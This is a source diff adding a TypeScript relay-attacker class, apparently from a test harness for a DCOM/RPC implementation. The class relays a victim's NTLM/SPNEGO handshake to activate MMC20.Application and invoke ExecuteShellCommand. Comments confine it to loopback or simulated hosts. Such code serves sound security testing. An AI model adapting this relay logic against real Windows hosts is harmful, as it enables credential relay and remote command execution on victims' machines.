@@ -1,0 +1,196 @@
+import { activateOver } from '../client/activate.js';
+import { Automation } from '../client/automation.js';
+import { exporterTargets, type Target } from '../client/bindings.js';
+import { type Connector, RpcConnection } from '../client/connection.js';
+import { ContextConnection } from '../client/context-connection.js';
+import { ExporterConnection } from '../client/exporter-connection.js';
+import { type CallOutcome, outcomeOfError } from '../client/outcome.js';
+import { PingSet } from '../client/ping-set.js';
+import { CLIENT_PROFILES } from '../client/profiles.js';
+import { Refused } from '../client/refused.js';
+import { type Exporter, RemoteInterface } from '../client/remote-interface.js';
+import { pinging } from '../client/resolver-client.js';
+import { type ActivationReply, IRemoteSCMActivator, IRemUnknown, type OBJREF } from '../codec/dcom/index.js';
+import { isNtlm } from '../codec/ntlm/index.js';
+import { IDispatch } from '../codec/oaut/index.js';
+import { type Pdu, RPC_C_AUTHN } from '../codec/rpce/index.js';
+import { decodeNegToken, NEG_STATE } from '../codec/spnego/index.js';
+import type { ClientSecurityOptions } from '../rpc/index.js';
+import type { Milliseconds, RandomBytes } from '../security/index.js';
+import { claiming } from './claims.js';
+import type { RelayNetwork } from './confined.js';
+import { gate } from './gate.js';
+import type { RelayedHandshake } from './handshake.js';
+import { RelayedInitiator } from './keyless-contexts.js';
+import { tampered } from './tamper.js';
+import type { RelayVariant } from './variants.js';
+
+export const CLSID_MMC20 = '49b2791a-b1ae-4c90-9b8e-e860ba07f889';
+
+/** How far a relay came. `bound`: the victim's last token is with the server; whether it was believed shows later. */
+export const STAGES = ['lured', 'bound', 'activated', 'exporter reached', 'invoked'] as const;
+export type Stage = (typeof STAGES)[number];
+
+export interface AttackerOptions {
+  /** Confined to loopback or simulated hosts. */
+  readonly network: RelayNetwork;
+  /** Where the attacker's connections come from. */
+  readonly address: string;
+  readonly target: Target;
+  readonly variant: RelayVariant;
+  /** Has a victim authenticate, and gives that authentication. */
+  readonly lure: () => Promise<RelayedHandshake>;
+  readonly random: RandomBytes;
+  readonly clock: () => Milliseconds;
+  readonly timeout: Milliseconds;
+  /** Written down by the simulated server, and run by nobody. */
+  readonly command: readonly [command: string, directory: string, parameters: string, windowState: string];
+}
+
+/** auth_context_id of impacket's relay client. */
+const AUTH_CONTEXT_ID = 79231;
+const { association } = CLIENT_PROFILES.impacket;
+const METHOD = 'Document.ActiveView.ExecuteShellCommand';
+
+/**
+ * Somebody in the middle who acts as the victim without knowing a key: each connection takes one authentication of the
+ * victim's, since a security context belongs to its connection ([MS-RPCE] 3.3.1.5.2.1).
+ */
+export class Attacker {
+  readonly #options: AttackerOptions;
+  readonly #connections: RpcConnection[] = [];
+  #handshake: RelayedHandshake | undefined;
+  stage: Stage = 'lured';
+
+  constructor(options: AttackerOptions) {
+    this.#options = options;
+  }
+
+  /** Activates, unless a reference is known, and calls. What stops it is an outcome. */
+  async attack(known?: ActivationReply): Promise<CallOutcome> {
+    try {
+      const reply = known ?? (await this.#activate());
+      await this.#invoke(reply);
+      this.stage = 'invoked';
+      return { accepted: true, status: 0, text: 'invoked' };
+    } catch (error) {
+      return error instanceof Refused ? error.outcome : outcomeOfError(error);
+    }
+  }
+
+  close(): void {
+    for (const connection of this.#connections) connection.close();
+  }
+
+  /** [MS-DCOM] 3.1.2.5.2.3.3: RemoteCreateInstance of MMC20.Application as the victim. */
+  async #activate(): Promise<ActivationReply> {
+    const { target, random, variant } = this.#options;
+    const { connection, security } = await this.#connect(target);
+    const contexts = new ContextConnection({ connection, security });
+    await this.#bound(() => contexts.context(IRemoteSCMActivator));
+    this.stage = 'bound';
+    const { outcome, reply } = await activateOver(contexts, {
+      clsid: CLSID_MMC20,
+      iids: [IDispatch.uuid],
+      method: 'RemoteCreateInstance',
+      flags: 1,
+      random,
+      authnLevel: variant.bindLevel,
+    });
+    if (reply === undefined) throw new Refused('the relayed activation', outcome);
+    this.stage = 'activated';
+    return reply;
+  }
+
+  /** A second authentication of the victim's, for the exporter's port; then calls by IDispatch. */
+  async #invoke(reply: ActivationReply): Promise<void> {
+    const { random, target, command } = this.#options;
+    const [exporterTarget] = exporterTargets(reply.bindings, { host: target.host });
+    const objref = reply.interfaces.find(({ iid }) => iid === IDispatch.uuid)?.objref;
+    if (exporterTarget === undefined || !objref || objref instanceof Uint8Array || !('std' in objref))
+      throw new TypeError('the activation gave no IDispatch that can be reached over TCP');
+    const { connection, security } = await this.#connect(exporterTarget);
+    const orpc = new ExporterConnection({ connection, security, random });
+    const exporter: Exporter = {
+      oxid: reply.oxid,
+      ipidRemUnknown: reply.ipidRemUnknown,
+      remoteUnknown: IRemUnknown,
+      simulated: this.#options.network.simulated,
+      connection: orpc,
+      pings: new PingSet(pinging(() => Promise.reject(new Error('the relay does not ping')))),
+    };
+    const application = new RemoteInterface(exporter, objref.iid, objref.std);
+    const automation = new Automation({ unmarshal: async (found) => interfaceOf(exporter, found) });
+    await this.#bound(() => automation.idsOf(application, ['Document']));
+    this.stage = 'exporter reached';
+    await automation.invoke(application, METHOD, ...command);
+  }
+
+  /** Where the server ends the handshake, the victim must not wait for it. */
+  async #bound<T>(negotiate: () => Promise<T>): Promise<T> {
+    try {
+      return await negotiate();
+    } catch (error) {
+      this.#handshake?.abandon(error as Error);
+      throw error;
+    }
+  }
+
+  async #connect(target: Target): Promise<{ connection: RpcConnection; security: ClientSecurityOptions }> {
+    const { variant, network, address, lure, random, clock, timeout } = this.#options;
+    const handshake = await lure();
+    this.#handshake = handshake;
+    const { authType } = handshake;
+    const context = new RelayedInitiator(authType, await this.#fromVictim(handshake));
+    const connector: Connector = async (to, accept, patience) => {
+      const channel = await network.connect(
+        { ...to, localAddress: address },
+        (opened) =>
+          gate(accept(opened), {
+            before: (pdu) => this.#relay(pdu, handshake, context),
+            destroy: () => opened.destroy(),
+          }),
+        patience,
+      );
+      return claiming(channel, variant.claim, {
+        authType,
+        authContextId: AUTH_CONTEXT_ID,
+        random,
+        firstSequence: () => handshake.victimSigned,
+      });
+    };
+    const connection = await RpcConnection.open({ ...target, association, connector, clock, timeout });
+    this.#connections.push(connection);
+    return { connection, security: { context, level: variant.bindLevel, authContextId: AUTH_CONTEXT_ID } };
+  }
+
+  async #fromVictim(handshake: RelayedHandshake): Promise<Uint8Array> {
+    const token = await handshake.fromVictim.take();
+    if (handshake.authType === RPC_C_AUTHN.GSS_NEGOTIATE && hasMic(token)) handshake.victimSigned++;
+    return tampered(token, this.#options.variant.tampering);
+  }
+
+  /** A token of the server's goes to the victim, and its answer has to be there before the server's PDU is taken. */
+  async #relay(pdu: Pdu, handshake: RelayedHandshake, context: RelayedInitiator): Promise<void> {
+    if (pdu.PTYPE !== 'bind_ack' && pdu.PTYPE !== 'alter_context_resp') return;
+    if (pdu.auth === undefined || pdu.auth.auth_value.length === 0) return;
+    const token = Buffer.from(pdu.auth.auth_value);
+    const done = handshake.authType === RPC_C_AUTHN.GSS_NEGOTIATE && isLast(token);
+    handshake.toVictim.put({ token: tampered(token, this.#options.variant.tampering), done });
+    if (!done) context.next = await this.#fromVictim(handshake);
+  }
+}
+
+/** [MS-SPNG] 3.1.5.1: a mechListMIC is the first thing that the victim signs. */
+const hasMic = (token: Uint8Array): boolean => !isNtlm(token) && decodeNegToken(token).mechListMIC !== undefined;
+
+/** RFC 4178 4.2.2: after accept-completed the client has nothing more to say. */
+function isLast(token: Uint8Array): boolean {
+  const outer = decodeNegToken(token);
+  return outer.kind === 'NegTokenResp' && outer.negState === NEG_STATE.ACCEPT_COMPLETED;
+}
+
+function interfaceOf(exporter: Exporter, objref: OBJREF): RemoteInterface {
+  if (!('std' in objref)) throw new TypeError('an OBJREF of this form has no interface to call');
+  return new RemoteInterface(exporter, objref.iid, objref.std);
+}
